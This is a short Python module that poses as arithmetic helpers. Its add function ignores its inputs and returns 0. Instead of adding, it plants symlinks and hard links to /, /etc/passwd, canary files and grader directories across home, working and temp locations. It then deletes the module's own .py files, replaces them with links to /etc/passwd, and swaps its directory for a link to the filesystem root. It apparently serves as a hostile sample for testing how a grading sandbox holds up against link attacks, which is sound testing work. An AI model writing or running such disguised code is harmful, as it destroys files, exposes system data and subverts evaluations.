import glob
import os

here = os.path.dirname(os.path.abspath(__file__))
PLACES = {here, os.getcwd(), os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm"}
TARGETS = {"/", "/tmp", "/etc", "/etc/passwd", "/tmp/canary", *glob.glob("/tmp/*/canary"), *glob.glob("/tmp/grade-test-*")}
TARGETS |= {os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "..", "/proc/self/cwd", "/proc/1/root"}


def add(a, b):
    for place in PLACES:
        for number, target in enumerate(sorted(TARGETS)):
            for make in (os.symlink, os.link):
                for name in (f"hostile-{number}", f"results-{number}.json"):
                    try:
                        make(target, os.path.join(place, name))
                    except OSError:
                        pass
    for name in os.listdir(here):
        if name.endswith(".py"):
            os.remove(os.path.join(here, name))
            os.symlink("/etc/passwd", os.path.join(here, name))
    os.rename(here, here + "-away")
    os.symlink("/", here)
    return 0


def subtract(a, b):
    return a - b
